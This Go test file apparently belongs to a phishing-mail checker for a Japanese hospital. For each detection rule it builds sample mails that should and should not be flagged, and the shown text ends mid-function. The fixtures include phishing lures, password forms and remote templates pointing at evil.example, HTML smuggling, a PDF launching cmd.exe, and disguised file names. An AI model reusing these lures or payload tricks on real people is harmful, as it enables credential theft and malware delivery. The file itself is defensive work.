// SPDX-FileCopyrightText: The Teiten Authors
// SPDX-License-Identifier: Apache-2.0

package mailcheck

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"image"
	"image/png"
	"io"
	"mime"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/boombuler/barcode"
	"github.com/boombuler/barcode/qr"

	"teiten/internal/disclose"
	"teiten/internal/indicator"
	"teiten/internal/intel"
	"teiten/internal/locale"
	"teiten/internal/mail"
	"teiten/internal/wave"
)

// letter is a mail of the examples; what it leaves open is ordinary.
type letter struct {
	from, to, reply, path, subject, text, html string
	head                                       []string // further fields, or "-Date" to leave one out
	files                                      []attached
	facts                                      Facts
}

type attached struct {
	name string
	data []byte
	kind string
}

func (l letter) raw() []byte {
	or := func(s, other string) string {
		if s == "" {
			return other
		}
		return s
	}
	without := map[string]bool{}
	var b strings.Builder
	for _, h := range l.head {
		if strings.HasPrefix(h, "-") {
			without[h[1:]] = true
		}
	}
	field := func(name, value string) {
		if value != "" && !without[name] {
			fmt.Fprintf(&b, "%s: %s\r\n", name, value)
		}
	}
	field("Return-Path", or(l.path, ""))
	field("Received", "from mail.partner.example (mail.partner.example [203.0.113.7]) by mx.hosp.example with ESMTP id 1; Mon, 02 Mar 2026 09:00:05 +0900")
	field("From", or(l.from, "=?UTF-8?Q?=E7=94=B0=E4=B8=AD?= <tanaka@partner.example>"))
	field("To", or(l.to, "yamada@hosp.example"))
	field("Reply-To", l.reply)
	field("Subject", mime.BEncoding.Encode("UTF-8", or(l.subject, "打ち合わせの件")))
	field("Date", "Mon, 02 Mar 2026 09:00:00 +0900")
	field("Message-ID", "<20260302.1@partner.example>")
	for _, h := range l.head {
		if !strings.HasPrefix(h, "-") {
			b.WriteString(h + "\r\n")
		}
	}
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"edge\"\r\n\r\n")
	part := func(kind, name string, data []byte) {
		fmt.Fprintf(&b, "--edge\r\nContent-Type: %s\r\nContent-Transfer-Encoding: base64\r\n", kind)
		if name != "" {
			fmt.Fprintf(&b, "Content-Disposition: attachment; filename=\"%s\"\r\n", mime.BEncoding.Encode("UTF-8", name))
		}
		b.WriteString("\r\n")
		for s := base64.StdEncoding.EncodeToString(data); s != ""; {
			n := min(len(s), 76)
			b.WriteString(s[:n] + "\r\n")
			s = s[n:]
		}
	}
	if l.text != "" || l.html == "" {
		part("text/plain; charset=UTF-8", "", []byte(or(l.text, "資料をお送りします。よろしくお願いします。")))
	}
	if l.html != "" {
		part("text/html; charset=UTF-8", "", []byte(l.html))
	}
	for _, f := range l.files {
		part(or(f.kind, "application/octet-stream"), f.name, f.data)
	}
	b.WriteString("--edge--\r\n")
	return []byte(b.String())
}

func (l letter) judge(t testing.TB) *Answer {
	t.Helper()
	m, err := mail.Read(l.raw(), mail.Limits{})
	if err != nil {
		t.Fatalf("%v\n%s", err, l.raw())
	}
	if l.facts.Now.IsZero() {
		l.facts.Now = time.Date(2026, 3, 3, 0, 0, 0, 0, time.UTC)
	}
	return Judge(m, l.facts)
}

func enclosed(name, data string) []attached { return []attached{{name: name, data: []byte(data)}} }

// zipped packs files; with locked every entry says that it is encrypted.
func zipped(locked bool, names ...string) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, n := range names {
		name, content, _ := strings.Cut(n, "=")
		w, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(w, content+strings.Repeat("x", 20))
		}
		if err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	out := b.Bytes()
	if locked {
		for i := 0; i+10 < len(out); i++ {
			switch string(out[i : i+4]) {
			case "PK\x03\x04":
				out[i+6] |= 1
			case "PK\x01\x02":
				out[i+8] |= 1
			}
		}
	}
	return string(out)
}

// compound is a compound file whose directory names the entries.
func compound(names ...string) string {
	b := make([]byte, 512+128*len(names))
	copy(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	for i, n := range names {
		e := b[512+128*i:]
		u := utf16.Encode([]rune(n))
		for j, c := range u {
			binary.LittleEndian.PutUint16(e[2*j:], c)
		}
		binary.LittleEndian.PutUint16(e[64:], uint16(2*len(u)+2))
		e[66] = 1
	}
	return string(b)
}

func code(text string) string {
	c, err := qr.Encode(text, qr.M, qr.Auto)
	if err == nil {
		c, err = barcode.Scale(c, 200, 200)
	}
	if err != nil {
		panic(err)
	}
	page := image.NewGray(image.Rect(0, 0, 240, 240))
	for y := range 240 {
		for x := range 240 {
			page.Pix[y*240+x] = 255
			if x >= 20 && y >= 20 && x < 220 && y < 220 {
				if r, _, _, _ := c.At(x-20, y-20).RGBA(); r == 0 {
					page.Pix[y*240+x] = 0
				}
			}
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, page); err != nil {
		panic(err)
	}
	return b.String()
}

func shares(kind indicator.Kind, value string, active, entry bool) Facts {
	v, err := indicator.Normalise(kind, value)
	if err != nil {
		panic(err)
	}
	return Facts{hits: map[string]hit{key(v): {Hit: intel.Hit{Value: v, Known: true, Active: active, Entry: entry}, entry: entry}}}
}

var (
	exe   = "MZ" + strings.Repeat("\x00", 100)
	page1 = "https://portal.unknown.example/a"
	lured = "\n" + page1 + "\n"
	own   = Facts{Own: []string{"hosp-minato.example"}, Names: []string{"みなと中央病院"}, Authserv: []string{"mx.hosp-minato.example"}}
	mine  = func(results string) []string {
		return []string{"Authentication-Results: mx.hosp-minato.example; " + results}
	}
	waved = func(advisory int64, alike float64) Facts {
		return Facts{wave: &wave.Seen{Advisory: advisory, Alike: alike, Institutions: disclose.Exactly(4)}}
	}
)

// examples has, for each rule, mails for which it speaks and mails, as near as
// can be, for which it does not.
var examples = map[string]struct{ yes, no []letter }{
	"known.url":  {[]letter{{text: page1, facts: shares(indicator.URL, page1, true, true)}}, []letter{{text: page1, facts: shares(indicator.URL, page1+"b", true, true)}}},
	"known.page": {[]letter{{text: page1 + "bcde?id=1", facts: shares(indicator.URL, page1+"bcde", true, true)}}, []letter{{text: page1 + "bcde?id=1", facts: shares(indicator.URL, page1+"bcde", true, false)}, {text: "https://a.example/a?id=1", facts: shares(indicator.URL, "https://a.example/a", true, true)}}},
	"known.host": {[]letter{{text: page1, facts: shares(indicator.Domain, "portal.unknown.example", true, true)}, {text: "http://203.0.113.9/x", facts: shares(indicator.IPv4, "203.0.113.9", true, true)}},
		[]letter{{text: page1, facts: shares(indicator.Domain, "other.unknown.example", true, true)}}},
	"known.parent":        {[]letter{{text: page1, facts: shares(indicator.Domain, "unknown.example", true, true)}}, []letter{{text: page1, facts: shares(indicator.Domain, "unknown.example", true, false)}, {text: "https://a.workers.dev/x", facts: shares(indicator.Domain, "workers.dev", true, true)}}},
	"known.sender":        {[]letter{{facts: shares(indicator.Email, "tanaka@partner.example", true, true)}, {reply: "x@y.example", facts: shares(indicator.Email, "x@y.example", true, true)}}, []letter{{facts: shares(indicator.Email, "tanaka2@partner.example", true, true)}}},
	"known.sender_domain": {[]letter{{facts: shares(indicator.Domain, "partner.example", true, true)}}, []letter{{facts: shares(indicator.Domain, "artner.example", true, true)}}},
	"known.ip":            {[]letter{{facts: shares(indicator.IPv4, "203.0.113.7", true, true)}}, []letter{{facts: shares(indicator.IPv4, "203.0.113.8", true, true)}}},
	"known.file":          {[]letter{{files: enclosed("a.txt", "abc"), facts: shares(indicator.MD5, "900150983cd24fb0d6963f7d28e17f72", true, true)}}, []letter{{files: enclosed("a.txt", "abcd"), facts: shares(indicator.MD5, "900150983cd24fb0d6963f7d28e17f72", true, true)}}},
	"known.wave":          {[]letter{{facts: waved(7, 0.9)}}, []letter{{facts: waved(7, 0.3)}, {facts: waved(0, 0.9)}}},
	"known.similar":       {[]letter{{facts: waved(7, 0.3)}}, []letter{{facts: waved(7, 0.9)}}},
	"known.reported":      {[]letter{{facts: waved(0, 0.9)}}, []letter{{facts: waved(7, 0.9)}, {facts: Facts{wave: &wave.Seen{Dismissed: true, Institutions: disclose.Exactly(2)}}}}},

	"sender.lookalike":    {[]letter{{from: "a@hosp-rninato.example", facts: own}, {from: "a@amazon.co.jp.account.example"}, {reply: "a@mhlw-go-jp.example"}}, []letter{{from: "a@hosp-minato.example", facts: own}, {from: "a@amazon.co.jp"}, {from: "a@hosp-kitano.example", facts: own}}},
	"sender.name_address": {[]letter{{from: `"info@smbc.co.jp" <x@partner.example>`}}, []letter{{from: `"info@partner.example" <x@partner.example>`}}},
	"sender.name_own":     {[]letter{{from: mime.BEncoding.Encode("UTF-8", "みなと中央病院 総務課") + " <x@partner.example>", facts: own}}, []letter{{from: mime.BEncoding.Encode("UTF-8", "みなと中央病院 総務課") + " <x@hosp-minato.example>", facts: own}}},
	"sender.none":         {[]letter{{head: []string{"-From"}}}, []letter{{}}},
	"sender.several":      {[]letter{{from: "a@partner.example, b@other.example"}}, []letter{{from: "a@partner.example, b@partner.example"}}},
	"sender.malformed":    {[]letter{{from: "<a b@@partner..example>"}}, []letter{{from: "<a.b@partner.example>"}}},
	"sender.free_company": {[]letter{{from: mime.BEncoding.Encode("UTF-8", "見本商事株式会社") + " <mihon@gmail.com>"}}, []letter{{from: mime.BEncoding.Encode("UTF-8", "見本 太郎") + " <mihon@gmail.com>"}}},
	"sender.reply_free":   {[]letter{{reply: "tanaka.partner@gmail.com"}}, []letter{{reply: "sato@partner.example"}, {from: "a@gmail.com", reply: "b@yahoo.co.jp"}}},
	"sender.reply_to":     {[]letter{{reply: "tanaka@other.example"}}, []letter{{reply: "tanaka@mail.partner.example"}, {reply: "list@other.example", head: []string{"List-Id: <x.other.example>"}}}},
	"sender.return_path":  {[]letter{{path: "<bounce@other.example>"}}, []letter{{path: "<bounce@mail.partner.example>"}}},
	"sender.self":         {[]letter{{from: "copier@hosp.example", path: "<x@other.example>"}}, []letter{{from: "copier@hosp.example", path: "<x@hosp.example>"}, {path: "<x@other.example>"}}},
	"sender.random":       {[]letter{{from: "info@qzkvtrw.example"}}, []letter{{from: "info@takahashi-clinic.example"}, {from: "info@jpcert.or.jp"}}},
	"sender.cheap":        {[]letter{{from: "info@shop-oshirase.top"}}, []letter{{from: "info@shop-oshirase.jp"}}},
	"sender.first":        {[]letter{{facts: Facts{Correspondents: 200}}}, []letter{{facts: Facts{Correspondents: 200, Met: true}}, {facts: Facts{Correspondents: 199}}}},

	"auth.dmarc":       {[]letter{{head: mine("dmarc=fail header.from=partner.example"), facts: own}}, []letter{{head: mine("dmarc=pass header.from=partner.example"), facts: own}, {head: []string{"Authentication-Results: mx.evil.example; dmarc=fail"}, facts: own}}},
	"auth.spf":         {[]letter{{head: mine("spf=fail smtp.mailfrom=a@partner.example"), facts: own}}, []letter{{head: mine("spf=pass smtp.mailfrom=a@partner.example"), facts: own}}},
	"auth.dkim":        {[]letter{{head: mine("dkim=fail header.d=partner.example"), facts: own}}, []letter{{head: mine("dkim=pass (ok; really) header.d=partner.example"), facts: own}}},
	"auth.own_outside": {[]letter{{from: "soumu@hosp-minato.example", head: mine("spf=fail smtp.mailfrom=x@evil.example"), facts: own}, {from: "soumu@hosp-minato.example", head: []string{"Received: from x (unknown [198.51.100.9]) by mx.hosp-minato.example with ESMTP id 2; Mon, 02 Mar 2026 09:00:00 +0900"}, facts: own}}, []letter{{from: "soumu@hosp-minato.example", head: mine("dkim=pass header.d=hosp-minato.example"), facts: own}, {from: "soumu@hosp-minato.example", head: []string{"Received: from x (home [198.51.100.9]) by mx.hosp-minato.example with ESMTPSA id 2; Mon, 02 Mar 2026 09:00:00 +0900"}, facts: own}}},
	"auth.foreign":     {[]letter{{head: []string{"Authentication-Results: mx.evil.example; dkim=pass header.d=partner.example"}, facts: own}}, []letter{{head: mine("dkim=pass header.d=partner.example"), facts: own}}},

	"brand.name":  {[]letter{{from: "Amazon.co.jp <info@partner.example>"}, {from: mime.BEncoding.Encode("UTF-8", "厚生労働省") + " <info@partner.example>"}}, []letter{{from: "Amazon.co.jp <info@amazon.co.jp>"}, {from: mime.BEncoding.Encode("UTF-8", "厚生労働省") + " <info@mhlw.go.jp>"}}},
	"brand.text":  {[]letter{{subject: "【三井住友カード】ご利用確認のお願い", text: "本人確認をお願いします。" + lured}}, []letter{{subject: "【三井住友カード】ご利用確認のお願い", text: "本人確認をお願いします。\nhttps://www.smbc-card.com/x\n"}, {subject: "三井住友カードの導入事例", text: "事例集です。" + lured}}},
	"brand.links": {[]letter{{from: "info@smbc-card.com", text: "本人確認をお願いします。" + lured}}, []letter{{from: "info@smbc-card.com", text: "本人確認をお願いします。\nhttps://www.smbc-card.com/x\n"}}},

	"link.lookalike":    {[]letter{{text: "https://amazon.co.jp.login.example/x"}, {text: "https://amaz0n-login.example/"}, {text: "https://xn--mazon-3ve.example/"}}, []letter{{text: "https://www.amazon.co.jp/x"}, {text: "https://amazing-flowers.example/"}}},
	"link.text_other":   {[]letter{{html: `<a href="https://evil.example/">https://www.smbc.co.jp/</a>`}}, []letter{{html: `<a href="https://www.smbc.co.jp/x">https://www.smbc.co.jp/</a>`}, {html: `<a href="https://evil.example/">こちら</a>`}}},
	"link.ip":           {[]letter{{text: "http://203.0.113.80/login"}}, []letter{{text: "http://192.168.1.10/login"}, {text: page1}}},
	"link.disguised":    {[]letter{{html: `<a href="http://0xcb.0x00.0x71.0x50/">x</a>`}, {html: "<a href=\"ht\ntps://evil.example/\">x</a>"}, {html: `<a href="https:\\evil.example\a">x</a>`}, {html: `<a href="https://ev%69l.example/">x</a>`}}, []letter{{html: `<a href="https://evil.example/a%20b">x</a>`}}},
	"link.userinfo":     {[]letter{{html: `<a href="https://www.smbc.co.jp@evil.example/">x</a>`}}, []letter{{html: `<a href="https://evil.example/@smbc">x</a>`}}},
	"link.punycode":     {[]letter{{text: "https://xn--r8jz45g.example/"}}, []letter{{text: "https://ascii.example/xn--r8jz45g"}}},
	"link.shortener":    {[]letter{{text: "https://bit.ly/3abc"}}, []letter{{text: "https://bit.ly.example/3abc"}}},
	"link.redirector":   {[]letter{{text: "https://www.google.com/url?q=https%3A%2F%2Fevil.example%2Fa"}}, []letter{{text: "https://www.google.com/search?q=hospital"}}},
	"link.hosting":      {[]letter{{text: "https://login-a.workers.dev/"}, {text: "https://docs.google.com/forms/d/1"}}, []letter{{text: "https://docs.google.com/document/d/1"}}},
	"link.cheap":        {[]letter{{text: "https://oshirase-annai.top/a"}}, []letter{{text: "https://oshirase-annai.jp/a"}}},
	"link.port":         {[]letter{{text: "https://unknown.example:4443/"}}, []letter{{text: "https://unknown.example:8443/"}}},
	"link.random":       {[]letter{{text: "https://x7k2p9q4z1.example/"}}, []letter{{text: "https://takahashi-clinic2.example/"}}},
	"link.scheme":       {[]letter{{html: `<a href="javascript:alert(1)">x</a>`}, {html: `<a href="search-ms:query=a">x</a>`}, {html: `<a href="data:text/html,x">x</a>`}}, []letter{{html: `<a href="tel:0312345678">x</a><a href="mailto:a@b.example">y</a>`}}},
	"link.recipient":    {[]letter{{text: "https://unknown.example/?e=yamada@hosp.example"}, {text: "https://unknown.example/?e=" + base64.RawURLEncoding.EncodeToString([]byte("yamada@hosp.example"))}}, []letter{{text: "https://unknown.example/?e=1"}}},
	"link.program":      {[]letter{{text: "https://unknown.example/setup.iso"}, {text: "https://unknown.example/get?f=a.zip"}}, []letter{{text: "https://unknown.example/a.pdf"}}},
	"link.qr":           {[]letter{{files: enclosed("qr.png", code("https://unknown.example/login"))}}, []letter{{files: enclosed("qr.png", code("https://unknown.example/login")), text: "https://unknown.example/login"}, {files: enclosed("qr.png", code("12345678"))}}},
	"link.form_service": {[]letter{{text: "パスワードを更新してください。https://docs.google.com/forms/d/1"}}, []letter{{text: "出欠をお知らせください。https://docs.google.com/forms/d/1"}}},

	"form.mail":   {[]letter{{html: `<form action="https://evil.example/"><input type="password" name="p"></form>`}}, []letter{{html: `<form action="https://shop.example/search"><input name="q"></form>`}}},
	"form.file":   {[]letter{{files: enclosed("a.html", `<html><form action="https://evil.example/"><input type="password"></form>`)}}, []letter{{files: enclosed("a.html", `<html><p>案内</p></html>`)}}},
	"form.script": {[]letter{{html: `<p>x</p><script>location="https://evil.example/"</script>`}}, []letter{{html: `<p>x</p>`}}},

	"file.program":         {[]letter{{files: enclosed("setup.exe", exe)}, {files: enclosed("a.scr", "x")}}, []letter{{files: enclosed("setup.pdf", "%PDF-1.4")}}},
	"file.script":          {[]letter{{files: enclosed("a.lnk", "L\x00\x00\x00\x01\x14\x02\x00")}, {files: enclosed("a.js", "x")}, {files: enclosed("a.url", "[InternetShortcut]\nURL=https://evil.example/\n")}, {files: enclosed("a.one", "x")}}, []letter{{files: enclosed("a.txt", "x")}}},
	"file.container":       {[]letter{{files: enclosed("a.iso", strings.Repeat("\x00", 0x8001)+"CD001")}, {files: enclosed("a.vhd", "conectix")}}, []letter{{files: enclosed("a.zip", zipped(false, "a.txt"))}}},
	"file.archive_program": {[]letter{{files: enclosed("a.zip", zipped(false, "請求書.exe"))}}, []letter{{files: enclosed("a.zip", zipped(false, "請求書.xlsx"))}}},
	"file.archive_macro":   {[]letter{{files: enclosed("a.zip", zipped(true, "請求書.docm"))}}, []letter{{files: enclosed("a.zip", zipped(true, "請求書.docx"))}}},
	"file.archive_html":    {[]letter{{files: enclosed("a.zip", zipped(false, "x.html"))}}, []letter{{files: enclosed("a.zip", zipped(false, "x.txt"))}}},
	"file.smuggling":       {[]letter{{files: enclosed("a.html", `<html><script>var b=atob("QUJD");var u=URL.createObjectURL(new Blob([b]));</script>`)}}, []letter{{files: enclosed("a.html", `<html><script>document.title="x"</script>`)}}},
	"file.svg_script":      {[]letter{{files: enclosed("a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/"</script></svg>`)}}, []letter{{files: enclosed("a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>`)}}},
	"file.svg_link":        {[]letter{{files: enclosed("a.svg", `<svg><a xlink:href="https://evil.example/"><text>x</text></a></svg>`)}}, []letter{{files: enclosed("a.svg", `<svg><text>x</text></svg>`)}}},
	"file.forwards":        {[]letter{{files: enclosed("a.html", `<html><meta http-equiv="refresh" content="0; url=https://evil.example/">`)}}, []letter{{files: enclosed("a.html", `<html><meta charset="utf-8"><p>x`)}}},
	"file.html":            {[]letter{{files: enclosed("a.htm", `<p>x</p>`)}}, []letter{{files: enclosed("a.txt", `x`)}}},
	"file.macro":           {[]letter{{files: enclosed("a.xlsm", zipped(false, "[Content_Types].xml", "xl/vbaProject.bin"))}, {files: enclosed("a.doc", compound("Root Entry", "_VBA_PROJECT"))}}, []letter{{files: enclosed("a.xlsx", zipped(false, "[Content_Types].xml", "xl/workbook.xml"))}, {files: enclosed("a.doc", compound("Root Entry", "WordDocument"))}}},
	"file.template":        {[]letter{{files: enclosed("a.docx", zipped(false, "[Content_Types].xml", `word/_rels/settings.xml.rels=<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`))}}, []letter{{files: enclosed("a.docx", zipped(false, "[Content_Types].xml", `word/_rels/document.xml.rels=<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="https://partner.example/" TargetMode="External"/>`))}}},
	"file.object":          {[]letter{{files: enclosed("a.rtf", `{\rtf1{\object\objdata 0105}}`)}, {files: enclosed("a.doc", compound("\x01Ole10Native"))}}, []letter{{files: enclosed("a.rtf", `{\rtf1 x}`)}}},
	"file.double":          {[]letter{{files: enclosed("請求書.pdf.exe", exe)}, {files: enclosed("a.zip", zipped(false, "写真.jpg.js"))}}, []letter{{files: enclosed("v1.2.exe", exe)}, {files: enclosed("a.tar.gz", "x")}}},
	"file.rlo":             {[]letter{{files: enclosed("請求書\u202efdp.exe", exe)}}, []letter{{files: enclosed("請求書.pdf", "%PDF-1.4")}}},
	"file.spaces":          {[]letter{{files: enclosed("請求書.pdf          .exe", exe)}}, []letter{{files: enclosed("請求 書.pdf", "%PDF-1.4")}}},
	"file.mismatch":        {[]letter{{files: enclosed("請求書.pdf", exe)}, {files: enclosed("a.docx", "%PDF-1.4")}}, []letter{{files: enclosed("a.docx", compound("EncryptedPackage"))}, {files: enclosed("a.pdf", "%PDF-1.4")}}},
	"file.pdf_launch":      {[]letter{{files: enclosed("a.pdf", "%PDF-1.4 /S /Launch /F (cmd.exe)")}}, []letter{{files: enclosed("a.pdf", "%PDF-1.4 /LaunchX")}}},
	"file.pdf_script":      {[]letter{{files: enclosed("a.pdf", "%PDF-1.4 /S /J#61vaScript /JS (x)")}}, []letter{{files: enclosed("a.pdf", "%PDF-1.4 (JavaScript)")}}},
	"file.pdf_link":        {[]letter{{text: "本人確認をお願いします。", files: enclosed("a.pdf", "%PDF-1.4 /A<</S/URI/URI(https://evil.example/a)>>")}}, []letter{{text: "資料です。", files: enclosed("a.pdf", "%PDF-1.4 /A<</S/URI/URI(https://evil.example/a)>>")}, {text: "本人確認をお願いします。", files: enclosed("a.pdf", "%PDF-1.4 /A<</S/URI/URI(https://www.mhlw.go.jp/a)>>")}}},
	"file.encrypted":       {[]letter{{files: enclosed("a.zip", zipped(true, "a.xlsx")), text: "解凍パスワード：1234"}}, []letter{{files: enclosed("a.zip", zipped(false, "a.xlsx")), text: "解凍パスワード：1234"}}},

	"text.account":   {[]letter{{text: "第三者による不正利用を検知しました。本人確認をお願いします。" + lured}}, []letter{{text: "第三者による不正利用を検知しました。本人確認をお願いします。"}, {text: "不正アクセスについての研修会です。" + lured}}},
	"text.password":  {[]letter{{text: "パスワードの有効期限が切れます。24時間以内に。" + lured}}, []letter{{text: "パスワードの変更方法の手引きです。" + lured}}},
	"text.mailbox":   {[]letter{{text: "メールボックスの容量が上限です。こちらをクリック" + lured}, {text: "Your mailbox is full. Click here" + lured}}, []letter{{text: "メールボックスの使い方です。" + lured}}},
	"text.card":      {[]letter{{text: "カード番号と情報の更新をお願いします。" + lured}}, []letter{{text: "カード番号は印字されません。" + lured}}},
	"text.verify":    {[]letter{{text: "本人確認を直ちに。下記リンクから" + lured}}, []letter{{text: "本人確認書類の一覧です。" + lured}}},
	"text.unpaid":    {[]letter{{text: "料金が未払いです。最終通知" + lured}}, []letter{{text: "未払いの集計表です。" + lured}}},
	"text.parcel":    {[]letter{{text: "不在のため持ち帰りました。下記リンクから" + lured}}, []letter{{text: "再配達の運用を見直しました。" + lured}}},
	"text.gain":      {[]letter{{text: "還付金があります。ログインして本日中に。" + lured}}, []letter{{text: "給付金の制度の説明です。" + lured}}},
	"text.helpdesk":  {[]letter{{text: "システム管理者です。パスワードを更新。ここをクリック" + lured}}, []letter{{text: "システム管理者の会議です。" + lured}}},
	"text.waiting":   {[]letter{{text: "FAXを受信しました。サインインして本日中に" + lured}}, []letter{{text: "FAXを受信しました。" + lured}}},
	"text.personnel": {[]letter{{text: "給与改定の件。ログインして本日中に" + lured}}, []letter{{text: "給与改定の説明会です。" + lured}}},
	"text.run":       {[]letter{{text: "解凍して、ダブルクリックしてください。請求書です。" + lured}}, []letter{{text: "請求書です。" + lured}}},
	"text.download":  {[]letter{{text: "請求書をダウンロードしてください。本日中に" + lured}}, []letter{{text: "請求書をダウンロードしてください。" + lured}}},
	"text.urgency":   {[]letter{{text: "至急、アカウントを停止します。こちらをクリック" + lured}}, []letter{{text: "至急、ご確認。" + lured}}},
	"text.extortion": {[]letter{{text: "あなたを録画しました。ビットコインを送ってください。"}}, []letter{{text: "ビットコインの講演会です。"}}},
	"text.transfer":  {[]letter{{text: "振込先が変更になりました。新しい口座へ至急お願いします。", reply: "tanaka@gmail.com"}}, []letter{{text: "振込先が変更になりました。詳しくは営業までお電話で。"}}},
	"text.secret":    {[]letter{{from: "x <ceo@gmail.com>", text: "極秘の件です。会議中のため電話には出られません。"}}, []letter{{text: "極秘の件です。会議中のため電話には出られません。"}}},
	"text.messenger": {[]letter{{text: "内密に、LINEグループを作成してください。"}}, []letter{{text: "同窓会のLINEグループのご案内です。"}}},
	"text.callback":  {[]letter{{text: "サブスクリプションが自動更新されました。キャンセルはお電話ください。"}}, []letter{{text: "サブスクリプションのご案内です。"}, {text: "折り返しお電話ください。"}}},
	"text.ransom":    {[]letter{{text: "貴院のデータを盗みました。48時間以内に暗号資産を。"}}, []letter{{text: "身代金要求型の攻撃への備え"}}},
	"text.macro":     {[]letter{{text: "「コンテンツの有効化」を押してください。", files: enclosed("a.xls", compound("Workbook"))}}, []letter{{text: "開いてください。", files: enclosed("a.xls", compound("Workbook"))}}},
	"text.paper":     {[]letter{{text: "請求書をご確認ください。", files: enclosed("a.js", "x")}}, []letter{{text: "請求書をご確認ください。", files: enclosed("a.pdf", "%PDF-1.4")}}},
	"text.odd":       {[]letter{{text: "親愛なるお客様、"}}, []letter{{text: "お客様各位"}}},
	"text.spam":      {[]letter{{text: "Viagra, cialis, weight loss, online casino, order now"}}, []letter{{text: "体重管理の教室です。order now"}}},

	"evasion.chinese":   {[]letter{{text: "お客様の账户に异常が検出されました。确认してください。ありがとうございます。よろしくお願いします。ご注意ください。どうぞよろしくお願い申し上げます。"}}, []letter{{text: "髙橋さんと﨑山さんの口座の確認をお願いします。帳票の證明も。ありがとうございます。"}}},
	"evasion.invisible": {[]letter{{text: "ロ\u200bグ\u200bイ\u200bン\u200bし\u200bて\u200bく"}}, []letter{{text: "ログイン\u200b してください"}}},
	"evasion.mixed":     {[]letter{{text: "Your Amаzоn account"}}, []letter{{text: "Your Amazon account. Привет, мир"}}},
	"evasion.spaced":    {[]letter{{text: "お 支 払 い の ご 確 認 を お 願 い し ま す"}}, []letter{{text: "お 知 ら せ\nお支払いのご確認をお願いします。"}}},
	"evasion.hidden":    {[]letter{{html: `<p>請求</p><div style="display:none">` + strings.Repeat("hidden words of a novel ", 100) + `</div>`}, {html: `<p>請求書</p><span style="color:#fff">` + strings.Repeat("white words ", 20) + `</span>`}}, []letter{{html: `<div style="display:none">今週のお知らせ</div><p>` + strings.Repeat("お知らせの本文です。", 30) + `</p>`}}},
	"evasion.image":     {[]letter{{html: `<a href="` + page1 + `"><img src="https://unknown.example/a.png" width="600"></a>`}}, []letter{{html: `<a href="` + page1 + `"><img src="https://unknown.example/a.png" width="600"></a><p>` + strings.Repeat("お知らせの本文です。", 10)}}},
	"evasion.refresh":   {[]letter{{html: `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>x</p>`}}, []letter{{html: `<meta http-equiv="content-type" content="text/html"><p>x</p>`}}},

	"structure.no_date":  {[]letter{{head: []string{"-Date"}}}, []letter{{}}},
	"structure.date_far": {[]letter{{facts: Facts{Now: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)}}}, []letter{{facts: Facts{Now: time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)}}}},
	"structure.no_id":    {[]letter{{head: []string{"-Message-ID"}}}, []letter{{}}},
	"structure.id_host":  {[]letter{{head: []string{"-Message-ID", "Message-ID: <1@localhost>"}}}, []letter{{}}},
	"structure.mailer":   {[]letter{{head: []string{"X-Mailer: gophish"}}}, []letter{{head: []string{"X-Mailer: Microsoft Outlook 16.0"}}}},
	"structure.empty":    {[]letter{{text: " ", files: enclosed("a.js", "x")}}, []letter{{text: " ", files: enclosed("a.pdf", "%PDF-1.4")}}},
	"structure.reply":    {[]letter{{subject: "Re: 先日の件"}}, []letter{{subject: "Re: 先日の件", head: []string{"References: <0@hosp.example>"}}}},

	"good.authenticated": {[]letter{{from: "info@amazon.co.jp", head: mine("dmarc=pass header.from=amazon.co.jp"), facts: own}}, []letter{{from: "info@amazon.co.jp", head: []string{"Authentication-Results: mx.evil.example; dmarc=pass"}, facts: own}, {head: mine("dmarc=pass"), facts: own}}},
	"good.list":          {[]letter{{head: []string{"List-Id: <x.partner.example>"}, text: "https://lists.partner.example/a"}}, []letter{{head: []string{"List-Id: <x.partner.example>"}, text: page1}}},
	"good.correspondent": {[]letter{{facts: Facts{Correspondents: 200, Met: true}}}, []letter{{facts: Facts{Correspondents: 10, Met: true}}}},
}

// elsewhere are rules whose examples need more than a letter; the test that has
// them.
var elsewhere = map[string]string{"auth.signature": "TestSignature", "structure.evasion": "TestBroken"}

func TestEveryRule(t *testing.T) {
	for _, r := range Rules() {
		e, ok := examples[r.ID]
		if _, other := elsewhere[r.ID]; other {
			continue
		}
		if !ok || len(e.yes) == 0 || len(e.no) == 0 {
			t.Errorf("%s has no examples for and against", r.ID)
			continue
		}
		for i, l := range e.yes {
			if a := l.judge(t); !a.says(r.ID) {
				t.Errorf("%s does not speak of its example %d: %v", r.ID, i, a.rules())
			}
		}
		for i, l := range e.no {
			if a := l.judge(t); a.says(r.ID) {
				t.Errorf("%s speaks of its counterexample %d: %v", r.ID, i, a.rules())
			}
		}
	}
	for id := range examples {
		if !hasRule(id) {
			t.Errorf("%s is no rule", id)
		}
	}
}

func hasRule(id string) bool {
	for _, r := range rules {
		if r.ID == id {
			return true
		}
	}
	return false
}

func (a *Answer) says(id string) bool {
	for _, f := range a.Findings {
		if f.Rule == id {
			return true
		}
	}
	return false
}

func (a *Answer) rules() (all []string) {
	for _, f := range a.Findings {
		all = append(all, fmt.Sprintf("%s %d", f.Rule, f.Weight))
	}
	return all
}

// Every rule has its sentences in both languages, every placeholder gets a word,
// and no sentence carries an address that can be followed.
func TestSentences(t *testing.T) {
	for _, e := range examples {
		for _, l := range e.yes {
			a := l.judge(t)
			for _, f := range a.Findings {
				for _, lang := range locale.Langs {
					s, why := f.Explain(lang), f.Why(lang)
					if strings.ContainsAny(s+why, "{}[]") && !strings.Contains(s, "[.]") && !strings.Contains(s, "[@]") || strings.Contains(s, "{") || strings.Contains(s, "://") && !strings.Contains(s, "hxxp") {
						t.Errorf("%s: %q, %q", f.Rule, s, why)
					}
				}
				if len(f.Places) == 0 {
